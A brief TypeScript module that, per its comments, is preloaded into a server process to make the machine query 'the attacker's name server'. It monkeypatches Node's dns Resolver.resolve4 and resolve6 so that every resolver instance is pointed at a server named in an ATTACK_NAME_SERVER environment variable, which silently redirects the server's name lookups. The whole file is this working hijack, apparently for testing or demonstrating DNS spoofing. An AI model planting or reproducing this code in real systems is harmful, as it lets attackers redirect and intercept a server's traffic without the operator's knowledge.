import { Resolver } from 'node:dns/promises';

// Loaded into the server's process before its own code: its machine asks the attacker's name server.
// What an operator sets in /etc/resolv.conf, without the machine's own being touched.
const { ATTACK_NAME_SERVER: server } = process.env;
if (server !== undefined) {
  // While a question is under way a resolver takes no other servers.
  const told = new WeakSet<Resolver>();
  for (const ask of ['resolve4', 'resolve6'] as const) {
    const original = Resolver.prototype[ask] as (this: Resolver, ...args: unknown[]) => unknown;
    Object.assign(Resolver.prototype, {
      [ask](this: Resolver, ...args: unknown[]) {
        if (!told.has(this)) this.setServers([server]);
        told.add(this);
        return original.apply(this, args);
      },
    });
  }
}
